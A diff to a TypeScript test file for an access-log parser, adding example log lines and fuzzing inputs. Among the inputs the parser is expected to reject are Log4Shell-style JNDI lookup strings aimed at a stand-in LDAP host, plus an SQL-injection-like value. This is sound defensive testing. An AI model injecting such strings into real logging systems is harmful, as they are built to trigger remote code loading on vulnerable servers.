@@ -1,6 +1,7 @@
 import * as fc from 'fast-check';
 import { expect, test } from 'vitest';
 import { combinedFormat } from './known-formats.ts';
+import { isPlainText } from './other-headers.ts';
 import { emptyPlainFields, findPlainCombined, type PlainFields } from './plain-combined.ts';
 
 const AGENT = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)';
@@ -35,6 +36,8 @@ function expectAlike(line: string): boolean {
   if (!parsed.ok) throw new Error(`${line} is ${parsed.reason}`);
   const { sourceIp, timestampMs, method, target, status, bytes, referer, userAgent } = parsed.request;
   expect(read(line, fields)).toEqual({ sourceIp, timestampMs, method, target, status, bytes, referer, userAgent });
+  // Nobody looks into these of a plain line.
+  expect([parsed.request.headers, isPlainText(parsed.request.remoteUser)]).toEqual([undefined, true]);
   return true;
 }
 
@@ -45,6 +48,8 @@ test.each([
   USUAL.replace('GET', 'POST').replace('HTTP/1.1', 'HTTP/2'),
   USUAL.replace('https://h.example/', '-').replace(AGENT, ''),
   `${USUAL} "198.51.100.9"`,
+  `${USUAL} "198.51.100.9, 2001:db8::1" 0.004 [shop-web-80] "-"`,
+  USUAL.replace('- -', '- ann@example.com'),
   `${USUAL} 0.004\r`,
   USUAL.slice(0, USUAL.indexOf(' "https')).replace('1057', '-'),
 ])('finds the fields of %s', (line) => expect(expectAlike(line)).toBe(true));
@@ -60,6 +65,9 @@ test.each([
   USUAL.replace('02/Mar', '31/Feb'),
   USUAL.replace(' 200 ', ' 20 '),
   USUAL.replace('- -', '- ann').replace(' 200 ', ' 401 '),
+  USUAL.replace('- -', '- ${jndi:ldap://a.example/b}'),
+  USUAL.replace(/$/, ' "$${jndi:ldap://a.example/b}"'),
+  `${USUAL} "1 or 2"`,
   USUAL.slice(0, USUAL.indexOf(' 200') + 4),
   `"${USUAL}"`,
   '',
@@ -78,7 +86,7 @@ const mostly = (usual: string[], odd: string[]): fc.Arbitrary<string> =>
 const lineOfParts = fc
   .tuple(
     mostly(['198.51.100.7', '10.0.0.255', '2001:db8::7', '::1'], ['1.2.3', '1.2.3.4:80', '1.2.3.4, 5.6.7.8', '-', 'h']),
-    mostly(['-', 'ann'], ['a b', '', '[', ']']),
+    mostly(['-', 'ann'], ['a b', '', '[', ']', '$', '$x', "o'b"]),
     mostly(
       ['02/Mar/2026:00:00:21 +0000', '02/Mar/2026:00:00:22 -0830'],
       ['2026-03-02T00:00:21Z', '31/Feb/2026:00:00:21 +0000'],
@@ -88,7 +96,10 @@ const lineOfParts = fc
     mostly([' HTTP/1.1', ' HTTP/2', ' HTTP/2.0'], [' HTTP/1.11', '']),
     mostly(['200', '404'], ['401', '-', '20', '2000']),
     mostly(['0', '1057', '-'], ['', '1'.repeat(16)]),
-    mostly([' "-" "-"', ' "https://h.example/a" "x y"', ''], [' "-"', ' "" "" 1', ' "a" "b"c']),
+    mostly(
+      [' "-" "-"', ' "https://h.example/a" "x y"', ' "-" "x" "10.0.0.1, 10.0.0.2" 0.1', ''],
+      [' "-"', ' "" "" 1', ' "a" "b"c', ' "-" "x" "$"', ' "-" "x" "a b" ;'],
+    ),
   )
   .map(
     ([ip, user, time, method, target, protocol, status, bytes, rest]) =>
